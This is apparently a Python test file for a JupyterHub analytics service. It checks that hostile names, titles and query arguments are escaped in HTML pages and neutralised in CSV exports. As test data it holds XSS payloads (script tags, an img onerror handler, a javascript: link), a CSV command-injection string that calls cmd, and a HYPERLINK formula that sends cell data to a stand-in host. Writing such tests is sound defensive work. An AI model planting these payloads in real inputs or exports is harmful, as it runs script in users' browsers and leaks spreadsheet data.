"""Hostile text never runs in a page and never becomes a spreadsheet formula.

Text from outside the code reaches pages and exports: community names (JupyterHub groups),
catalog titles (a deployment's YAML), the consent notice (configuration), cohort names
(leads), usernames (the hub's authenticator), and query arguments echoed in error messages.
Each here is hostile; every page must show it escaped, and every CSV cell holding it must
start with a quote rather than ``=``, ``+``, ``-`` or ``@``.
"""

from __future__ import annotations

import csv
import io
import re
from urllib.parse import quote

import pytest

import catalyst_hub.store  # noqa: F401  (loads before ingest)
from catalyst_hub.ingest import Ingestor, Sender
from catalyst_hub.pytest_plugin import earlier_today

# builds data relative to now: CI runs it again at 00:05 and 23:55 UTC
pytestmark = pytest.mark.clock

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
#: What must never appear in a page: the markup of the hostile strings, unescaped.
RAW = ("<script>alert", "<img src=x")

COMMUNITY = f"c{IMG}{SCRIPT}"
FORMULA_COMMUNITY = "+cmd|' /C calc'!A0"
LEARNER = f"{IMG}@example.org"
FORMULA_LEARNER = "@SUM(1+1)*cmd|' /C calc'!A0"

CATALOG = f"""
steps:
  - id: hostile_step
    title: {{en: 'Step {SCRIPT}', es: 'Paso {SCRIPT}'}}
    help: {{en: 'Help {IMG}'}}
    help_url: 'javascript:alert(1)'
    self_report: true
    detect: [{{schema: action, match: {{action: logged_in}}}}]
training:
  programs:
    - id: hostile
      title: {{en: 'Program {IMG}'}}
      lessons:
        - id: hostile-lesson
          title: {{en: 'Lesson {SCRIPT}'}}
          episodes:
            - id: one
              title: {{en: 'Episode {IMG}'}}
              self_report: true
"""


@pytest.fixture
def catalyst_config(tmp_path):
    path = tmp_path / "catalog.yaml"
    path.write_text(CATALOG)
    return {
        "CatalystApp": {"catalog_files": [str(path)]},
        "CatalystService": {
            "consent_notice": {"en": {"title": f"Notice {SCRIPT}", "body": f"Body {IMG}"}}
        },
    }


@pytest.fixture
def catalyst_hub_roles():
    return [{"name": "catalyst-admin", "scopes": ["custom:catalyst:admin"]}]


@pytest.fixture
async def hostile(catalyst_service, make_event):
    """Members of two hostile communities, one with a hostile username; a hostile cohort."""
    svc = catalyst_service
    store, ingestor = svc.store, Ingestor(svc.store)
    when = earlier_today(hours=1)
    names = [(LEARNER, COMMUNITY), (FORMULA_LEARNER, COMMUNITY)]
    names += [(f"m{i}@example.org", COMMUNITY) for i in range(5)]
    names += [(f"f{i}@example.org", FORMULA_COMMUNITY) for i in range(5)]
    for name, community in names:
        svc.user(name, groups=[f"community-{community}"])
        events = [
            # they accepted the notice (the service's default is opt-in)
            make_event("consent", {"decision": "given", "notice_version": "1"}, time=when),
            make_event("action", {"action": "logged_in"}, time=when),
            make_event("action", {"action": "cell_executed"}, time=when),
        ]
        stored, results = ingestor.ingest(events, Sender(store.member_id(name), community))
        assert stored, [r.to_json() for r in results]
    admin = svc.token("catalyst-admin", roles=["catalyst-admin"])
    member = svc.token(LEARNER)  # in the hostile community through the group
    r = await svc.request(
        "post",
        "training/",
        admin,
        json={
            "name": f"{FORMULA} {SCRIPT}",
            "community": COMMUNITY,
            "lessons": ["hostile-lesson"],
        },
    )
    assert r.status_code == 201, r.text
    cohort = r.json()["cohort"]
    r = await svc.request(
        "post",
        f"training/cohorts/{cohort}/learners",
        admin,
        json={"usernames": [LEARNER, FORMULA_LEARNER]},
    )
    assert r.status_code == 200, r.text
    return svc, admin, member, cohort


def assert_escaped(path: str, text: str) -> None:
    for raw in RAW:
        assert raw not in text, f"{path} shows {raw!r} unescaped"


async def test_pages_escape_hostile_text(hostile):
    svc, admin, member, cohort = hostile
    c = quote(COMMUNITY, safe="")
    pages = [
        ("me", member),
        ("me?status=" + quote(SCRIPT), member),
        ("me/erase", member),
        ("privacy", None),
        ("reports/", admin),
        ("reports/overview", admin),
        ("reports/audit", admin),
        ("training/", admin),
        (f"training/cohorts/{cohort}", admin),
    ] + [
        (f"reports/communities/{c}/{kind}", admin)
        for kind in ("adoption", "funnel", "usage", "month")
    ]
    shown = set()
    for path, token in pages:
        r = await svc.request("get", path, token)
        assert r.status_code == 200, (path, r.status_code)
        assert r.headers["Content-Type"].startswith("text/html"), path
        assert_escaped(path, r.text)
        shown |= {name for name, escaped in ESCAPED.items() if escaped in r.text}
    # the hostile texts were on the pages (escaped), so the check above checked something
    assert shown == set(ESCAPED), set(ESCAPED) - shown


ESCAPED = {
    "script": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "img": "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;",
    "formula": "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1,&#34;click&#34;)",
}


async def test_help_links_never_run_script(hostile):
    """A catalog's help_url is a link: a javascript: URL must not become one."""
    svc, admin, member, cohort = hostile
    r = await svc.request("get", "me", member)
    assert 'href="javascript:' not in r.text.lower()


async def test_error_pages_escape_what_the_request_said(hostile):
    svc, admin, member, cohort = hostile
    cases = [
        ("get", f"reports/communities/x/adoption?month={quote(SCRIPT)}", {}, 400),
        ("get", f"reports/communities/x/usage?from={quote(IMG)}", {}, 400),
        (
            "post",
            "training/",
            {"data": {"name": "x", "community": COMMUNITY, "lessons": SCRIPT}},
            400,
        ),
        ("post", f"training/cohorts/{cohort}/learners", {"data": {"usernames": IMG}}, 400),
        ("post", "me/steps", {"data": {"step": SCRIPT}}, 400),
        ("get", f"no/such/{quote(SCRIPT)}", {}, 404),
    ]
    for method, path, kwargs, status in cases:
        r = await svc.request(method, path, admin, allow_redirects=False, **kwargs)
        assert r.status_code == status, (path, r.status_code, r.text)
        assert r.headers["Content-Type"].startswith("text/html"), path
        assert_escaped(path, r.text)


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


async def test_csv_cells_are_never_formulas(hostile):
    svc, admin, member, cohort = hostile
    exports = {
        f"training/cohorts/{cohort}.csv": [LEARNER, FORMULA_LEARNER],
        "reports/overview.csv": [COMMUNITY, FORMULA_COMMUNITY],
        f"reports/communities/{quote(FORMULA_COMMUNITY, safe='')}/funnel.csv": [],
    }
    for path, expected in exports.items():
        r = await svc.request("get", path, admin)
        assert r.status_code == 200, (path, r.status_code, r.text)
        assert r.headers["Content-Type"].startswith("text/csv")
        values = cells(r.text)
        for cell in values:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _number(cell), (
                path,
                cell,
            )
        for text in expected:
            # the text is there, neutralised with a leading quote when it could be a formula
            assert text in values or "'" + text in values, (path, text, values[:40])
        # a file name made of a community's name: nothing of it can break out of the header
        fallback = re.fullmatch(
            r"attachment; filename=\"([A-Za-z0-9._-]+)\"; filename\*=UTF-8''([A-Za-z0-9._~%-]+)",
            r.headers["Content-Disposition"],
        )
        assert fallback, r.headers["Content-Disposition"]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


async def test_json_exports_keep_text_as_it_is(hostile):
    """JSON is data, not markup: the exact text, for programs to escape where they show it."""
    svc, admin, member, cohort = hostile
    r = await svc.request("get", f"training/cohorts/{cohort}.json", admin)
    assert r.headers["Content-Type"].startswith("application/json")
    data = r.json()
    assert data["cohort"]["name"] == f"{FORMULA} {SCRIPT}"
    assert {row["username"] for row in data["learners"]} == {LEARNER, FORMULA_LEARNER}
